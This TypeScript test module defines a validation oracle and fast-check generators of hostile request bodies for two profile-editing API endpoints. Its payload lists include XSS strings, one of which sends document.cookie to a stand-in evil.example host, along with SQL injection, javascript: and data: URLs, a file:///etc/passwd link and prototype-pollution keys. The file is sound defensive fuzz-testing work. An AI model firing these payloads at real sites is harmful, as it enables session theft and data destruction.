/**
 * What the two PATCH endpoints must answer for a body, written from the text
 * of D6 and D7 (not from the server's schemas), and the generators of hostile
 * bodies that the hostile-bodies test feeds through it.
 */
import fc from "fast-check";

export type Endpoint = "description" | "offers";
export type Expected =
  | { status: 200; stored: Record<string, unknown> }
  | { status: 400 | 413 | 415 | 422 };

export interface BodyCase {
  kind: string;
  endpoint: Endpoint;
  body: Buffer;
  contentType: string | null;
  expected: Expected;
}

export const MAX_BODY = 64 * 1024;

// ------------------------------------------------------------------ oracle

const FORBIDDEN_CONTROL = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F]/;
const CONTROL_OR_SPACE = /[\u0000-\u0020\u007F-\u009F]/;

const isObject = (v: unknown): v is Record<string, unknown> => typeof v === "object" && v !== null && !Array.isArray(v);
const codePoints = (s: string) => [...s].length;

/** D7 text: CR LF folded, trimmed, well-formed, no control but tab and newline, min..max code points. */
function personText(value: unknown, min: number, max: number): string | null {
  if (typeof value !== "string") return null;
  const text = value.replace(/\r\n/g, "\n").trim();
  if (!text.isWellFormed() || FORBIDDEN_CONTROL.test(text)) return null;
  const n = codePoints(text);
  return n >= min && n <= max ? text : null;
}

/** D7 link: null = none; else an absolute http(s) URL, at most 2048 characters, without credentials. */
export function linkVerdict(value: unknown): { ok: true; link: string | null } | { ok: false } {
  if (value === null) return { ok: true, link: null };
  if (typeof value !== "string") return { ok: false };
  const link = value.trim();
  if (codePoints(link) > 2048 || CONTROL_OR_SPACE.test(link) || !/^https?:\/\//i.test(link)) return { ok: false };
  let url: URL;
  try {
    url = new URL(link);
  } catch {
    return { ok: false };
  }
  const fine = (url.protocol === "http:" || url.protocol === "https:") && url.hostname !== "" && !url.username && !url.password;
  return fine ? { ok: true, link } : { ok: false };
}

function onlyKeys(value: Record<string, unknown>, allowed: readonly string[], required: readonly string[]): boolean {
  const keys = Object.keys(value);
  return keys.every((k) => allowed.includes(k)) && required.every((k) => Object.hasOwn(value, k));
}

/** The answer D7 gives to a parsed JSON value. */
export function verdictOfValue(endpoint: Endpoint, value: unknown): Expected {
  if (!isObject(value)) return { status: 422 };
  if (endpoint === "description") {
    if (!onlyKeys(value, ["businessDescription"], ["businessDescription"])) return { status: 422 };
    const text = personText(value.businessDescription, 0, 10_000);
    return text === null ? { status: 422 } : { status: 200, stored: { businessDescription: text } };
  }
  if (!onlyKeys(value, ["businessOffers"], ["businessOffers"])) return { status: 422 };
  const offers = value.businessOffers;
  if (!Array.isArray(offers) || offers.length > 50) return { status: 422 };
  const stored: Record<string, string>[] = [];
  for (const offer of offers) {
    if (!isObject(offer) || !onlyKeys(offer, ["name", "description", "link"], ["name", "description"])) return { status: 422 };
    const name = personText(offer.name, 1, 120);
    const description = personText(offer.description, 1, 2000);
    const link = Object.hasOwn(offer, "link") ? linkVerdict(offer.link) : ({ ok: true, link: null } as const);
    if (name === null || description === null || !link.ok) return { status: 422 };
    stored.push(link.link === null ? { name, description } : { name, description, link: link.link });
  }
  return { status: 200, stored: { businessOffers: stored } };
}

/**
 * Whether any object in the JSON text (already known to parse) names a member
 * twice. JSON.parse keeps only the last, so the raw text is walked; this walker
 * is the test's own, written apart from the server's.
 */
export function hasDuplicateNames(text: string): boolean {
  const stack: (Set<string> | null)[] = [];
  let key = true;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (c === '"') {
      let j = i + 1;
      while (text[j] !== '"') j += text[j] === "\\" ? 2 : 1;
      const top = stack.at(-1);
      if (top && key) {
        const name = JSON.parse(text.slice(i, j + 1)) as string;
        if (top.has(name)) return true;
        top.add(name);
        key = false;
      }
      i = j;
    } else if (c === "{") {
      stack.push(new Set());
      key = true;
    } else if (c === "[") {
      stack.push(null);
    } else if (c === "}" || c === "]") {
      stack.pop();
    } else if (c === ",") {
      key = stack.at(-1) !== null;
    }
  }
  return false;
}

/** The answer D6 and D7 give to raw bytes with a content type. */
export function verdictOfBytes(endpoint: Endpoint, body: Buffer, contentType: string | null): Expected {
  if (contentType === null || !/^application\/json\s*(;\s*charset="?utf-8"?\s*)?$/i.test(contentType)) return { status: 415 };
  if (body.length > MAX_BODY) return { status: 413 };
  let text: string;
  try {
    text = new TextDecoder("utf-8", { fatal: true }).decode(body);
  } catch {
    return { status: 400 };
  }
  let value: unknown;
  try {
    value = JSON.parse(text);
  } catch {
    return { status: 400 };
  }
  if (hasDuplicateNames(text)) return { status: 400 };
  return verdictOfValue(endpoint, value);
}

// -------------------------------------------------------------- generators

const JSON_TYPE = "application/json";

function caseOf(kind: string, endpoint: Endpoint, body: string | Buffer, contentType: string | null = JSON_TYPE): BodyCase {
  const bytes = typeof body === "string" ? Buffer.from(body, "utf8") : body;
  return { kind, endpoint, body: bytes, contentType, expected: verdictOfBytes(endpoint, bytes, contentType) };
}

const endpointArb = fc.constantFrom<Endpoint>("description", "offers");

/** Text a person (or an attacker) might type: every code point, injections, bidi, controls. */
const textArb = fc.oneof(
  { weight: 4, arbitrary: fc.string({ unit: "binary", maxLength: 80 }) },
  { weight: 2, arbitrary: fc.string({ maxLength: 40 }) },
  {
    weight: 3,
    arbitrary: fc.constantFrom(
      "<script>alert(1)</script>",
      '"><img src=x onerror=alert(document.cookie)>',
      "</script><script>fetch('//evil.example/'+document.cookie)</script>",
      "{{constructor.constructor('alert(1)')()}}",
      "${process.exit(1)}",
      "'; DROP TABLE organizations; --",
      "\u202Eevil\u202C reversed",
      "\u2066isolate\u2069 \u200Fmark\u200E",
      "\u061Carabic mark",
      "zero\u200Bwidth\uFEFFbom",
      "line\u2028separator\u2029paragraph",
      "Ω≈ç√ ☕ 🚀 𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
      "tab\tand\nnewline\r\nand crlf",
      "\r\n\r\n  surrounded  \t\n",
    ),
  },
  { weight: 2, arbitrary: fc.integer({ min: 0, max: 0x9f }).map((c) => `before${String.fromCharCode(c)}after`) },
  { weight: 1, arbitrary: fc.integer({ min: 0, max: 0x9f }).map((c) => String.fromCharCode(c)) },
  {
    weight: 2,
    // Lone and paired surrogates: JSON.stringify escapes the lone ones, so they reach the server as \udXXX.
    arbitrary: fc
      .array(fc.integer({ min: 0xd800, max: 0xdfff }), { minLength: 1, maxLength: 3 })
      .map((units) => `x${String.fromCharCode(...units)}y`),
  },
);

const javascriptArb = fc
  .tuple(
    fc.array(fc.boolean(), { minLength: 10, maxLength: 10 }),
    fc.array(fc.tuple(fc.nat(11), fc.constantFrom("\t", "\n", "\r", "\u0000", " ", "\u000B")), { maxLength: 3 }),
    fc.constantFrom("", " ", "\t", "\u0001", "\u00A0", "\u200B"),
    fc.constantFrom("alert(1)", "//%0aalert(1)", "void(0)", "fetch('//evil.example')"),
  )
  .map(([upper, inserts, lead, payload]) => {
    let word = [..."javascript"].map((ch, i) => (upper[i] ? ch.toUpperCase() : ch)).join("");
    for (const [at, ch] of inserts) word = word.slice(0, at) + ch + word.slice(at);
    return `${lead}${word}:${payload}`;
  });

/** Links with a known place in D7: most refused, some fine. */
const linkArb = fc.oneof(
  { weight: 4, arbitrary: javascriptArb },
  {
    weight: 4,
    arbitrary: fc.constantFrom(
      "data:text/html,<script>alert(1)</script>",
      "DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
      "vbscript:msgbox(1)",
      "VBScript:Execute(1)",
      "//evil.example/path",
      "///evil.example",
      "\\\\evil.example\\share",
      "/relative/path",
      "relative/path",
      "http:evil.example",
      "http:/evil.example",
      "https:\\\\evil.example",
      "http://user:pass@example.com/",
      "https://user@example.com/",
      "https://:secret@example.com/",
      "https://",
      "http://exa mple.com/",
      "https://example.com/\u0000",
      "file:///etc/passwd",
      "ftp://example.com/",
      "mailto:someone@example.com",
      "blob:https://example.com/uuid",
      "about:blank",
      "jav&#x09;ascript:alert(1)",
      "%6A%61vascript:alert(1)",
      "https://example.com",
      "HTTP://EXAMPLE.COM/UPPER",
      " https://example.com/padded ",
      "https://example.com/javascript:alert(1)",
      "https://example.com/?q=<script>alert(1)</script>",
      "https://例え.jp/パス",
      "http://127.0.0.1:8080/",
      "https://[::1]:8443/v6",
    ),
  },
  { weight: 2, arbitrary: fc.webUrl({ withQueryParameters: true, withFragments: true }) },
  { weight: 1, arbitrary: fc.constantFrom(`https://example.com/${"a".repeat(2048 - 20)}`, `https://example.com/${"a".repeat(2048 - 19)}`) },
  { weight: 1, arbitrary: fc.constantFrom<unknown>(null, 42, true, [], {}, ["https://example.com"]) },
);

const offerArb = fc.record(
  {
    name: fc.oneof({ weight: 3, arbitrary: fc.constantFrom("Espresso class", "Cupping", "  Roast day  ") }, { weight: 2, arbitrary: textArb }),
    description: fc.oneof({ weight: 3, arbitrary: fc.constantFrom("Learn to pull a shot.", "Taste ten origins.") }, { weight: 2, arbitrary: textArb }),
    link: linkArb,
  },
  { requiredKeys: ["name", "description"] },
);

/** A body that D7 may well accept: the base the hostile variants are cut from. */
function plausibleArb(endpoint: Endpoint): fc.Arbitrary<Record<string, unknown>> {
  return endpoint === "description"
    ? textArb.map((t) => ({ businessDescription: t }))
    : fc.array(offerArb, { maxLength: 4 }).map((offers) => ({ businessOffers: offers }));
}

const plausible = endpointArb.chain((endpoint) =>
  plausibleArb(endpoint).map((value) => caseOf("plausible values (text, links, injections)", endpoint, JSON.stringify(value))),
);

const truncated = endpointArb.chain((endpoint) =>
  fc.tuple(plausibleArb(endpoint), fc.double({ min: 0, max: 1, noNaN: true })).map(([value, at]) => {
    const bytes = Buffer.from(JSON.stringify(value), "utf8");
    return caseOf("truncated JSON", endpoint, bytes.subarray(0, Math.floor(at * (bytes.length - 1))));
  }),
);

const deep = fc
  .tuple(endpointArb, fc.integer({ min: 100, max: 32_000 }), fc.constantFrom("array", "object", "unbalanced", "inside", "over-cap"))
  .map(([endpoint, depth, shape]) => {
    const property = endpoint === "description" ? "businessDescription" : "businessOffers";
    let body: string;
    if (shape === "array") body = "[".repeat(depth) + "]".repeat(depth);
    else if (shape === "object") body = '{"a":'.repeat(Math.min(depth, 10_000)) + "1" + "}".repeat(Math.min(depth, 10_000));
    else if (shape === "unbalanced") body = "[".repeat(depth * 2);
    else if (shape === "inside") body = `{"${property}":${"[".repeat(depth)}${"]".repeat(depth)}}`;
    else body = "[".repeat(40_000) + "]".repeat(40_000);
    return caseOf("deeply nested JSON", endpoint, body);
  });

const nonObjectTop = fc
  .tuple(endpointArb, fc.oneof(fc.jsonValue().filter((v) => !isObject(v)).map((v) => JSON.stringify(v)), fc.constantFrom("", " ", "\n", "null", "[]", '"businessDescription"', "1e999", "-0", "[{}]")))
  .map(([endpoint, body]) => caseOf("non-object tops", endpoint, body));

const duplicateKeys = endpointArb.chain((endpoint) =>
  fc
    .tuple(plausibleArb(endpoint), fc.constantFrom("top", "escaped", "offer", "nested"), textArb)
    .map(([value, where, other]) => {
      const json = JSON.stringify(value);
      const property = endpoint === "description" ? "businessDescription" : "businessOffers";
      let body: string;
      if (where === "top") body = `{"${property}":${JSON.stringify(endpoint === "description" ? other : [])},${json.slice(1)}`;
      else if (where === "escaped") body = `${json.slice(0, -1)},"${property.replace("s", "\\u0073")}":${JSON.stringify(endpoint === "description" ? other : [])}}`;
      else if (where === "offer") body = `{"businessOffers":[{"name":"a","description":"b","name":${JSON.stringify(other)}}]}`;
      else body = `{"${property}":{"x":1,"y":{"z":1,"z":2}}}`;
      return caseOf("duplicate keys", endpoint, body);
    }),
);

const protoKeys = endpointArb.chain((endpoint) =>
  fc
    .tuple(plausibleArb(endpoint), fc.constantFrom("__proto__", "constructor", "prototype", "__defineGetter__", "hasOwnProperty", "toString"), fc.constantFrom("top", "offer"))
    .map(([value, key, where]) => {
      const json = JSON.stringify(value);
      const poison = `{"polluted":"yes","prototype":{"polluted":"yes"},"__proto__":{"polluted":"yes"}}`;
      const body =
        where === "top" || endpoint === "description"
          ? `{"${key}":${poison},${json.slice(1)}`
          : `{"businessOffers":[{"name":"a","description":"b","${key}":${poison}}]}`;
      return caseOf("__proto__/constructor/prototype keys", endpoint, body);
    }),
);

const extraMembers = endpointArb.chain((endpoint) =>
  fc.tuple(plausibleArb(endpoint), fc.string({ minLength: 0, maxLength: 12 }), fc.jsonValue({ maxDepth: 2 }), fc.boolean()).map(([value, key, extra, inOffer]) => {
    const body =
      endpoint === "offers" && inOffer
        ? JSON.stringify({ businessOffers: [{ name: "n", description: "d", [`x${key}`]: extra }] })
        : JSON.stringify({ ...value, [`extra_${key}`]: extra });
    return caseOf("extra members", endpoint, body);
  }),
);

const wrongTypes = endpointArb.chain((endpoint) =>
  fc.tuple(fc.jsonValue({ maxDepth: 3 }), fc.constantFrom("top", "name", "description", "item")).map(([value, where]) => {
    let body: unknown;
    if (endpoint === "description" || where === "top") body = { [endpoint === "description" ? "businessDescription" : "businessOffers"]: value };
    else if (where === "item") body = { businessOffers: [value] };
    else body = { businessOffers: [{ name: "n", description: "d", [where]: value }] };
    return caseOf("wrong types", endpoint, JSON.stringify(body));
  }),
);

const hugeStrings = fc
  .tuple(endpointArb, fc.constantFrom(0, 1, 2, 119, 120, 121, 1999, 2000, 2001, 9_999, 10_000, 10_001, 20_000, 60_000, 70_000), fc.constantFrom("a", "☕", "𝔘", "\t", " "))
  .map(([endpoint, n, unit]) => {
    const text = unit.repeat(n);
    const body =
      endpoint === "description"
        ? { businessDescription: text }
        : { businessOffers: [{ name: text.slice(0, 2 * 121) || "n", description: text }] };
    return caseOf("huge strings", endpoint, JSON.stringify(body));
  });

const hugeArrays = fc
  .tuple(fc.constantFrom(0, 1, 49, 50, 51, 200, 5_000, 20_000), fc.constantFrom("offer", "number", "string"))
  .map(([n, item]) => {
    const element = item === "offer" ? { name: "n", description: "d" } : item === "number" ? 1 : "s";
    return caseOf("huge arrays", "offers", JSON.stringify({ businessOffers: Array.from({ length: n }, () => element) }));
  });

const INVALID_UTF8: readonly number[][] = [
  [0xff],
  [0xfe, 0xff],
  [0xc0, 0x80], // overlong NUL
  [0xc1, 0xbf],
  [0xe0, 0x80, 0xaf], // overlong '/'
  [0xed, 0xa0, 0x80], // an encoded surrogate
  [0xf4, 0x90, 0x80, 0x80], // past U+10FFFF
  [0xe2, 0x82], // truncated
  [0x80],
  [0xf8, 0x88, 0x80, 0x80, 0x80],
];

const invalidUtf8 = endpointArb.chain((endpoint) =>
  fc.tuple(plausibleArb(endpoint), fc.constantFrom(...INVALID_UTF8), fc.double({ min: 0, max: 1, noNaN: true })).map(([value, bad, at]) => {
    const json = Buffer.from(JSON.stringify(value), "utf8");
    const cut = Math.floor(at * json.length);
    return caseOf("invalid UTF-8", endpoint, Buffer.concat([json.subarray(0, cut), Buffer.from(bad), json.subarray(cut)]));
  }),
);

const links = fc.array(linkArb, { minLength: 1, maxLength: 3 }).map((list) =>
  caseOf("link schemes", "offers", JSON.stringify({ businessOffers: list.map((link, i) => ({ name: `Offer ${i}`, description: "See the link.", link })) })),
);

const contentTypes = endpointArb.chain((endpoint) =>
  fc
    .tuple(
      plausibleArb(endpoint),
      fc.constantFrom<string | null>(
        null,
        "text/plain",
        "text/json",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=x",
        "application/json; charset=latin1",
        "application/json; charset=utf-16",
        "application/json-patch+json",
        "application/merge-patch+json",
        "application/jsonp",
        "application/json;charset=utf-8",
        "APPLICATION/JSON; CHARSET=UTF-8",
        "application/json; charset=\"utf-8\"",
      ),
    )
    .map(([value, type]) => caseOf("content types", endpoint, JSON.stringify(value), type)),
);

/** Every hostile family, weighted so each gets a few hundred cases in a few thousand. */
export const hostileBodyArb: fc.Arbitrary<BodyCase> = fc.oneof(
  { weight: 4, arbitrary: plausible },
  { weight: 2, arbitrary: truncated },
  { weight: 1, arbitrary: deep },
  { weight: 1, arbitrary: nonObjectTop },
  { weight: 1, arbitrary: duplicateKeys },
  { weight: 1, arbitrary: protoKeys },
  { weight: 1, arbitrary: extraMembers },
  { weight: 1, arbitrary: wrongTypes },
  { weight: 1, arbitrary: hugeStrings },
  { weight: 1, arbitrary: hugeArrays },
  { weight: 1, arbitrary: invalidUtf8 },
  { weight: 3, arbitrary: links },
  { weight: 1, arbitrary: contentTypes },
);
